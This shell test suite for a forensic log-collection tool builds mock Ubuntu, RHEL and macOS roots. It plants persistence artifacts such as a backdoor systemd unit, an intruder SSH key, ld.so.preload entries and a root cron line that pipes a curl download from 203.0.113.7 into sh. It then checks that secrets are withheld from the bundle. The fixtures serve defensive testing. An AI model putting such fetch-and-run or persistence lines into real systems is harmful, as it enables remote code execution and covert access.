#!/bin/sh
# Roots laid out like an Ubuntu 22.04 web server, a RHEL 9 server with SELinux audit and a macOS
# image, each with persistence planted (units and their enabling links, cron jobs, authorized
# keys, ld.so.preload, launchd plists...): collect takes every planted file under the category
# its rule gives (context for persistence and configuration), withholds every file that may
# hold secrets (listed in files.jsonl and the summary, never in the bundle: every member of the
# tar is searched for their contents), leaves no regular file under the log directories
# without a record, and derives account dates from shadow without a single hash.
. "$TEST_SRCDIR/test-lib.sh"

# put ROOT CATEGORY PATH [TEXT]: a file that collect must take under CATEGORY.
put() {
	mkdir -p "$(dirname "$1/$3")"
	printf '%s\n' "${4:-planted $3}" >"$1/$3"
	printf '%s\t%s\n' "$3" "$2" >>"$1.want"
}

# link ROOT CATEGORY PATH TARGET: a symbolic link collect must record (not follow).
link() {
	mkdir -p "$(dirname "$1/$3")"
	ln -s "$4" "$1/$3"
	printf '%s\t%s\n' "$3" "$2" >>"$1.links"
}

# secret ROOT PATH [KIND]: a file that must be withheld. Its text holds a marker that must
# never appear in any member of the bundle. KIND pem writes a PEM private key around it.
n_secret=0
secret() {
	n_secret=$((n_secret + 1))
	marker="SECRETMARKER$n_secret$(basename "$1")X"
	mkdir -p "$(dirname "$1/$2")"
	case ${3:-plain} in
	pem) printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\n%s\n-----END OPENSSH PRIVATE KEY-----\n' \
		"$marker" >"$1/$2" ;;
	*) printf 'secret %s\n' "$marker" >"$1/$2" ;;
	esac
	printf '%s\n' "$2" >>"$1.secrets"
	printf '%s\n' "$marker" >>"$1.markers"
}

# home_unlisted ROOT PATH: a file in a home that the root's passwd does not list.
home_unlisted() {
	printf '%s\n' "$2" >>"$1.unlisted"
}

# collect_root ROOT [ARGS...]: collect into ROOT.out (JSON summary ROOT.json), extract into
# ROOT.x; prints the bag directory.
collect_root() {
	r=$1
	shift
	rm -rf "$r.out" "$r.x"
	mkdir -p "$r.out"
	lp collect --root "$r" -o "$r.out" --json "$@" >"$r.json"
	b=$(python3 -c "import json,sys; print(json.load(open(sys.argv[1]))['bundle'])" "$r.json")
	bag_of "$b" "$r.x" >/dev/null
	echo "$b"
}

cat >"$TRASH/check.py" <<'PY'
import json, os, stat, sys
root, bag, summary = sys.argv[1:4]
def lines(path):
    if not os.path.exists(path):
        return []
    with open(path) as f:
        return [l.rstrip("\n") for l in f if l.strip()]
recs = {}
for l in open(bag + "/logpack/files.jsonl"):
    r = json.loads(l)
    assert r["path"] not in recs, "two records for " + r["path"]
    recs[r["path"]] = r
manifest = {l.split("  ", 1)[1][5:] for l in lines(bag + "/manifest-sha256.txt")}
s = json.load(open(summary))
problems = []
for l in lines(root + ".want"):
    path, cat = l.split("\t")
    r = recs.get("/" + path)
    if r is None:
        problems.append("no record: " + path)
    elif r["status"] != "collected" or r["category"] != cat:
        problems.append("%s: %s under %s, want collected under %s" % (path, r["status"], r["category"], cat))
    elif path not in manifest or open(root + "/" + path, "rb").read() != open(bag + "/data/" + path, "rb").read():
        problems.append("not stored whole: " + path)
for l in lines(root + ".links"):
    path, cat = l.split("\t")
    r = recs.get("/" + path)
    if r is None or r["status"] != "link" or r["category"] != cat:
        problems.append("link not recorded under %s: %s (%r)" % (cat, path, r))
withheld = {w["path"]: w for w in s["withheld"]}
for path in lines(root + ".secrets"):
    r = recs.get("/" + path)
    if r is None or r["status"] != "withheld" or not r["reason"].startswith("may hold secrets"):
        problems.append("not listed as withheld: %s (%r)" % (path, r))
    if path in manifest or os.path.lexists(bag + "/data/" + path):
        problems.append("secret in the payload: " + path)
    if "/" + path not in withheld:
        problems.append("summary does not list withheld " + path)
if s["files_withheld"] != len(withheld):
    problems.append("files_withheld %d, %d listed" % (s["files_withheld"], len(withheld)))
for path in lines(root + ".unlisted"):
    r = recs.get("/" + path)
    if r is None or r.get("home_status") != "not in passwd":
        problems.append("not marked 'not in passwd': %s (%r)" % (path, r))
# Every regular file under the log directories has a record, and was stored or withheld.
for d in ("var/log", "var/adm", "private/var/log"):
    for top, dirs, files in os.walk(os.path.join(root, d)):
        for n in files:
            full = os.path.join(top, n)
            if not stat.S_ISREG(os.lstat(full).st_mode):
                continue
            rel = os.path.relpath(full, root)
            r = recs.get("/" + rel)
            if r is None:
                problems.append("log directory file left out without a record: " + rel)
            elif r["status"] not in ("collected", "withheld"):
                problems.append("log directory file %s: %s" % (rel, r["status"]))
other = sum(1 for r in recs.values() if r["category"] == "other" and r["status"] == "collected")
if s["files_other"] != other:
    problems.append("files_other %d, %d records" % (s["files_other"], other))
log = open(bag + "/logpack/collection.log").read()
if "unclaimed files under the log directories: %d taken" % other not in log:
    problems.append("collection.log does not count the unclaimed files")
if problems:
    print("\n".join(problems))
    sys.exit(1)
PY

# check_root NAME ROOT: collect, then check the bag and search every member for the markers.
check_root() {
	name=$1
	root=$2
	t "$name: every planted file under its category, secrets listed as withheld, every log file recorded" '
		collect_root "$root" >"$root.bundle"
		python3 "$TRASH/check.py" "$root" "$(echo "$root.x"/logpack-*)" "$root.json"
	'
	t "$name: no member of the bundle holds a secret file's content" '
		tar -tf "$(cat "$root.bundle")" >members
		test "$(wc -l <members)" -gt 20
		# Every member, payload and tag files, written out in turn.
		tar -xOf "$(cat "$root.bundle")" >all
		test -s all
		while read -r m; do lacks all "$m"; done <"$root.markers"
		# and none under any name in the extracted bag.
		while read -r m; do
			if grep -rqF "$m" "$root.x"; then echo "found $m"; false; fi
		done <"$root.markers"
	'
	t "$name: with --include-secrets the same files are taken (the markers are there to find)" '
		collect_root "$root" --include-secrets >b
		tar -xOf "$(cat b)" >all
		while read -r m; do contains all "$m"; done <"$root.markers"
		python3 -c "import json,sys; d=json.load(open(sys.argv[1])); assert d[\"files_withheld\"] == 0 and d[\"withheld\"] == [], d" "$root.json"
	'
}

# --- Ubuntu 22.04 web server ------------------------------------------------------------------
U=$TRASH/ubuntu
mkdir -p "$U/etc" "$U/usr/lib"
printf 'NAME="Ubuntu"\nVERSION_ID="22.04"\nID=ubuntu\nID_LIKE=debian\nPRETTY_NAME="Ubuntu 22.04.4 LTS"\n' >"$U/usr/lib/os-release"
ln -s ../usr/lib/os-release "$U/etc/os-release"
echo web01 >"$U/etc/hostname"
put "$U" context etc/passwd "$(printf 'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nubuntu:x:1000:1000::/home/ubuntu:/bin/bash')"
put "$U" context etc/group "$(printf 'root:x:0:\nsudo:x:27:ubuntu')"
secret "$U" etc/shadow
# shadow needs real records for accounts.json: the marker stands in the hash fields.
m=$(tail -n 1 "$U.markers")
printf 'root:$6$%s$hash:19700:0:99999:7:::\nubuntu:!$6$%s$hash:19000:0:99999:7::19800:\nwww-data:*:19000:0:99999:7:::\n' \
	"$m" "$m" >"$U/etc/shadow"
secret "$U" etc/gshadow
# Logs, as rsyslog, the packages and the agents write them.
put "$U" context etc/rsyslog.conf
put "$U" context etc/rsyslog.d/50-default.conf
put "$U" context etc/rsyslog.d/60-forward.conf '*.* @@logs.example.net:514'
put "$U" system var/log/syslog
put "$U" system var/log/syslog.2.gz
put "$U" auth var/log/auth.log
put "$U" system var/log/kern.log
put "$U" system var/log/dpkg.log
put "$U" system var/log/apt/history.log
put "$U" system var/log/journal/0a1b/system.journal
put "$U" application var/log/nginx/access.log
put "$U" application var/log/mysql/error.log
put "$U" application var/log/letsencrypt/letsencrypt.log
put "$U" application var/log/landscape/sysinfo.log
put "$U" application var/log/amazon/ssm/amazon-ssm-agent.log
put "$U" application var/log/amazon/ssm/audits/amazon-ssm-agent-audit-2024-05-01
put "$U" application var/log/kubernetes/audit/audit.log
put "$U" application var/log/waagent.log
put "$U" application var/log/azure/custom-script/handler.log
put "$U" other var/log/private/app.log
put "$U" other var/log/myapp/app.log
put "$U" other var/log/ubuntu-advantage.log
secret "$U" var/log/installer/autoinstall-user-data
# Persistence: a unit and its enabling link, a timer, a user unit, cron, keys, loader, rc.
put "$U" context etc/systemd/system/backdoor.service
put "$U" context etc/systemd/system/backdoor.timer
link "$U" context etc/systemd/system/multi-user.target.wants/backdoor.service ../backdoor.service
put "$U" context lib/systemd/system/ssh.service
put "$U" context home/ubuntu/.config/systemd/user/agent.service
link "$U" context home/ubuntu/.config/systemd/user/default.target.wants/agent.service ../agent.service
put "$U" system etc/crontab
put "$U" system etc/cron.d/popularity-contest
put "$U" context etc/cron.daily/apt-compat
put "$U" context etc/cron.hourly/sync
put "$U" context etc/anacrontab
put "$U" system var/spool/cron/crontabs/root '* * * * * /tmp/.x/run'
put "$U" context root/.ssh/authorized_keys 'ssh-ed25519 AAAAC3Nz intruder'
put "$U" context home/ubuntu/.ssh/authorized_keys 'ssh-ed25519 AAAAC3Nz ubuntu'
put "$U" context home/ubuntu/.ssh/id_ed25519.pub 'ssh-ed25519 AAAAC3Nz ubuntu'
secret "$U" home/ubuntu/.ssh/id_ed25519 pem
# A private key under a name that does not say so: found by its content.
secret "$U" home/ubuntu/.ssh/backup pem
put "$U" context etc/ssh/sshd_config
put "$U" context etc/ssh/sshd_config.d/10-root.conf 'PermitRootLogin yes'
put "$U" context etc/ssh/ssh_host_ed25519_key.pub
secret "$U" etc/ssh/ssh_host_ed25519_key pem
secret "$U" etc/ssh/ssh_host_rsa_key pem
put "$U" context etc/sudoers
put "$U" context etc/sudoers.d/90-cloud-init-users 'ubuntu ALL=(ALL) NOPASSWD:ALL'
put "$U" context etc/pam.d/sshd
put "$U" context etc/ld.so.preload /usr/lib/x86_64-linux-gnu/libsystemd-helper.so
put "$U" context etc/ld.so.conf.d/x86_64-linux-gnu.conf
put "$U" context etc/rc.local
put "$U" context etc/profile.d/motd.sh
put "$U" context home/ubuntu/.bashrc
put "$U" context root/.profile
put "$U" context etc/hosts
link "$U" context etc/resolv.conf ../run/systemd/resolve/stub-resolv.conf
put "$U" context etc/logrotate.d/nginx
put "$U" context etc/systemd/journald.conf
put "$U" context etc/audit/rules.d/audit.rules '-w /etc/shadow -p wa'
put "$U" context etc/apt/sources.list.d/evil.list
# Histories of interactive tools.
put "$U" auth home/ubuntu/.python_history
put "$U" auth home/ubuntu/.mysql_history
put "$U" auth root/.psql_history
# A directory-service user (SSSD) and a deleted user: homes not in passwd.
put "$U" auth "home/jdoe@corp.example.com/.bash_history"
home_unlisted "$U" "home/jdoe@corp.example.com/.bash_history"
put "$U" context "home/jdoe@corp.example.com/.ssh/authorized_keys"
home_unlisted "$U" "home/jdoe@corp.example.com/.ssh/authorized_keys"
put "$U" context home/olduser/.bashrc
home_unlisted "$U" home/olduser/.bashrc
# Containers: Docker (plain and snap), its configs, a config whose environment has a password.
put "$U" application var/lib/docker/containers/c0ffee/c0ffee-json.log
put "$U" context var/lib/docker/containers/c0ffee/config.v2.json \
	'{"Config":{"Image":"nginx:1.25","Env":["PATH=/usr/bin","NGINX_PORT=80"],"Cmd":["nginx"]}}'
put "$U" context var/lib/docker/containers/c0ffee/hostconfig.json '{"Privileged":true}'
secret "$U" var/lib/docker/containers/beef/config.v2.json
m=$(tail -n 1 "$U.markers")
printf '{"Config":{"Image":"postgres:16","Env":["POSTGRES_PASSWORD=%s"]}}\n' "$m" \
	>"$U/var/lib/docker/containers/beef/config.v2.json"
put "$U" application var/snap/docker/common/var-lib-docker/containers/d00d/d00d-json.log
put "$U" context etc/docker/daemon.json
secret "$U" home/ubuntu/.docker/config.json
secret "$U" root/.docker/config.json
# Kubernetes: static pod manifests taken, kubeconfigs and PKI withheld.
put "$U" context etc/kubernetes/manifests/kube-apiserver.yaml
secret "$U" etc/kubernetes/admin.conf
secret "$U" etc/kubernetes/kubelet.conf
secret "$U" etc/kubernetes/pki/ca.key pem
secret "$U" etc/kubernetes/pki/ca.crt
put "$U" application var/log/pods/kube-system_etcd-web01_0a/etcd/0.log
# cloud-init: instance data taken, user data withheld.
put "$U" context etc/cloud/cloud.cfg.d/90_dpkg.cfg
put "$U" context var/lib/cloud/instances/i-0abc/datasource
put "$U" context run/cloud-init/instance-data.json
secret "$U" var/lib/cloud/instances/i-0abc/user-data.txt
secret "$U" run/cloud-init/instance-data-sensitive.json
put "$U" application var/lib/amazon/ssm/i-0abc/document/orchestration/cmd-1/awsrunShellScript/0.awsrunShellScript/stdout
check_root ubuntu "$U"

t "ubuntu: logpack/accounts.json has the account dates from shadow and no hash" '
	bag=$(echo "$U.x"/logpack-*)
	python3 - "$bag/logpack/accounts.json" <<"PY"
import json, sys
d = json.load(open(sys.argv[1]))
a = {x["name"]: x for x in d["accounts"]}
assert a["root"]["last_change"] == "2023-12-09" and a["root"]["password"] == "set" and not a["root"]["locked"], a["root"]
assert a["ubuntu"]["locked"] and a["ubuntu"]["expires"] == "2024-03-18", a["ubuntu"]
assert a["www-data"]["password"] == "none", a["www-data"]
PY
	lacks "$bag/logpack/accounts.json" "\$6\$"
	lacks "$bag/logpack/accounts.json" "\$hash"
	contains "$bag/logpack/collection.log" "accounts.json: account dates from /etc/shadow"
'

t "ubuntu: the summary says how many files were withheld and how many unclaimed logs were taken" '
	lp collect --root "$U" -o out >stdout 2>stderr
	contains stderr "files withheld: may hold secrets"
	contains stderr "unclaimed files under the log directories taken as '\''other'\''"
	bag=$(bag_of "$(cat stdout)" x)
	contains "$bag/logpack/collection.log" "withheld /etc/shadow: may hold secrets (password hashes)"
'

t "ubuntu: --no-other lists the unclaimed logs without taking them" '
	collect_root "$U" --no-other >b
	bag=$(echo "$U.x"/logpack-*)
	grep "\"/var/log/myapp/app.log\"" "$bag/logpack/files.jsonl" >rec
	contains rec "\"status\":\"listed\""
	refute test -e "$bag/data/var/log/myapp/app.log"
	python3 -c "import json,sys; d=json.load(open(sys.argv[1])); assert d[\"files_other\"] == 0 and d[\"files_other_listed\"] == 3, d" "$U.json"
	# The withheld one under the log directory is still withheld, not merely listed.
	grep "\"/var/log/installer/autoinstall-user-data\"" "$bag/logpack/files.jsonl" >rec2
	contains rec2 "\"status\":\"withheld\""
'

t "ubuntu: --category still selects (context alone; no other, no logs)" '
	collect_root "$U" --category context >b
	bag=$(echo "$U.x"/logpack-*)
	test -f "$bag/data/etc/ld.so.preload"
	refute test -e "$bag/data/var/log/syslog"
	refute test -e "$bag/data/var/log/myapp/app.log"
	python3 -c "
import json, sys
cats = {json.loads(l)[\"category\"] for l in open(sys.argv[1])}
assert cats == {\"context\"}, cats
" "$bag/logpack/files.jsonl"
'

# --- RHEL 9 with SELinux and audit --------------------------------------------------------------
R=$TRASH/rhel
mkdir -p "$R/etc"
printf 'NAME="Red Hat Enterprise Linux"\nVERSION_ID="9.3"\nID="rhel"\nID_LIKE="fedora"\n' >"$R/etc/os-release"
put "$R" context etc/passwd "$(printf 'root:x:0:0:root:/root:/bin/bash\napache:x:48:48::/usr/share/httpd:/sbin/nologin\nsvc:x:1001:1001::/home/svc:/bin/bash')"
put "$R" context etc/group
secret "$R" etc/shadow
m=$(tail -n 1 "$R.markers")
printf 'root:$6$%s:19000:0:99999:7:::\n' "$m" >"$R/etc/shadow"
secret "$R" etc/gshadow
put "$R" context etc/rsyslog.conf
put "$R" system var/log/messages
put "$R" auth var/log/secure
put "$R" system var/log/cron
put "$R" system var/log/dnf.log
put "$R" auth var/log/audit/audit.log 'type=AVC msg=audit(1714557600.123:456): avc:  denied  { execute } for  pid=4242 comm="httpd" name="x" scontext=system_u:system_r:httpd_t:s0 tcontext=unconfined_u:object_r:tmp_t:s0 tclass=file permissive=0'
put "$R" auth var/log/audit/audit.log.1
put "$R" application var/log/httpd/access_log
put "$R" system var/log/anaconda/ks-script-abc.log
put "$R" other var/log/rhsm/rhsmcertd.txt
put "$R" other var/log/tuned/tuned.log
put "$R" context etc/selinux/config 'SELINUX=permissive'
put "$R" context etc/audit/auditd.conf
put "$R" context etc/audit/rules.d/audit.rules
put "$R" context usr/lib/systemd/system/dbus-broker-helper.service
link "$R" context etc/systemd/system/multi-user.target.wants/dbus-broker-helper.service /usr/lib/systemd/system/dbus-broker-helper.service
put "$R" system var/spool/cron/root '*/5 * * * * curl http://203.0.113.7/x | sh'
put "$R" system etc/cron.d/0hourly
put "$R" context etc/cron.hourly/0anacron
put "$R" context var/spool/at/a0000101a2b3c
put "$R" context root/.ssh/authorized_keys
put "$R" context home/svc/.ssh/authorized_keys
secret "$R" home/svc/.ssh/id_rsa pem
put "$R" context etc/ld.so.preload /usr/lib64/libaudit-shim.so
put "$R" context etc/rc.d/rc.local
put "$R" context etc/sudoers.d/wheel
put "$R" context etc/pam.d/system-auth
put "$R" context etc/yum.repos.d/epel-mirror.repo
put "$R" context etc/ssh/sshd_config
secret "$R" etc/ssh/ssh_host_ecdsa_key pem
put "$R" context etc/bashrc
put "$R" auth home/svc/.bash_history
# A kickstart that sets a password is withheld; one that does not is taken.
secret "$R" root/anaconda-ks.cfg
m=$(tail -n 1 "$R.markers")
printf 'lang en_US\nrootpw --iscrypted $6$%s\n' "$m" >"$R/root/anaconda-ks.cfg"
put "$R" system var/log/anaconda/ks.cfg "$(printf 'lang en_US\n%%post\necho hi\n%%end')"
check_root rhel "$R"

# --- macOS image --------------------------------------------------------------------------------
M=$TRASH/macos
mkdir -p "$M/System/Library/CoreServices"
echo '<plist><dict><key>ProductVersion</key><string>14.4</string></dict></plist>' \
	>"$M/System/Library/CoreServices/SystemVersion.plist"
put "$M" system private/var/db/diagnostics/Persist/0000000000000001.tracev3
put "$M" system private/var/db/uuidtext/0A/1B2C
put "$M" system private/var/log/system.log
put "$M" system private/var/log/com.apple.xpc.launchd/launchd.log
put "$M" context Library/LaunchDaemons/com.apple.softwareupdated.helper.plist
put "$M" context Users/alice/Library/LaunchAgents/com.google.keystone.agent.plist
home_unlisted "$M" Users/alice/Library/LaunchAgents/com.google.keystone.agent.plist
put "$M" context private/var/at/tabs/alice '@reboot /Users/alice/.local/bin/x'
put "$M" context Users/alice/.ssh/authorized_keys
secret "$M" Users/alice/.ssh/id_ed25519 pem
put "$M" context private/etc/sudoers.d/alice
put "$M" context private/etc/ssh/sshd_config
secret "$M" private/etc/ssh/ssh_host_ed25519_key pem
put "$M" context Users/alice/.zshrc
put "$M" context private/etc/hosts
put "$M" context private/etc/passwd
secret "$M" private/etc/master.passwd
put "$M" auth Users/alice/.zsh_history
check_root macos "$M"

# --- Debian 12 without a syslog daemon: auth.log's absence is explained, not reported ----------
D=$TRASH/deb12
mkdir -p "$D/etc" "$D/var/log/journal/77" "$D/var/log/apt"
printf 'ID=debian\nVERSION_ID="12"\n' >"$D/etc/os-release"
printf 'root:x:0:0:root:/root:/bin/bash\n' >"$D/etc/passwd"
echo j >"$D/var/log/journal/77/system.journal"
echo d >"$D/var/log/dpkg.log"
echo a >"$D/var/log/apt/history.log"

t "debian 12 without syslog: no auth.log is no finding, 'auth events are in the journal'" '
	lp collect --root "$D" -o out --json >s.json 2>err
	python3 - s.json <<"PY"
import json, sys
d = json.load(open(sys.argv[1]))
assert d["expected_absent"] == {}, d["expected_absent"]
e = d["absent_explained"]
assert len(e) == 1 and e[0]["pattern"] == "/var/log/auth.log*" and "auth events are in the journal" in e[0]["reason"], e
PY
	lp collect --root "$D" -o out2 2>err2 >/dev/null
	contains err2 "auth events are in the journal"
	lacks err2 "expected but absent"
'

t "debian 12 with rsyslog configured: a missing auth.log stays a finding" '
	cp -a "$D" d2
	mkdir -p d2/etc/rsyslog.d
	echo "auth,authpriv.* /var/log/auth.log" >d2/etc/rsyslog.d/50-default.conf
	lp collect --root d2 -o out --json >s.json
	python3 -c "import json,sys; d=json.load(open(sys.argv[1])); assert d[\"expected_absent\"] == {\"auth\": [\"/var/log/auth.log*\"]} and d[\"absent_explained\"] == [], d" s.json
'

t "debian 12 without syslog and without a journal: a missing auth.log stays a finding" '
	cp -a "$D" d3
	rm -r d3/var/log/journal
	lp collect --root d3 -o out --json >s.json
	python3 -c "import json,sys; d=json.load(open(sys.argv[1])); assert d[\"expected_absent\"][\"auth\"] == [\"/var/log/auth.log*\"], d" s.json
'

test_done
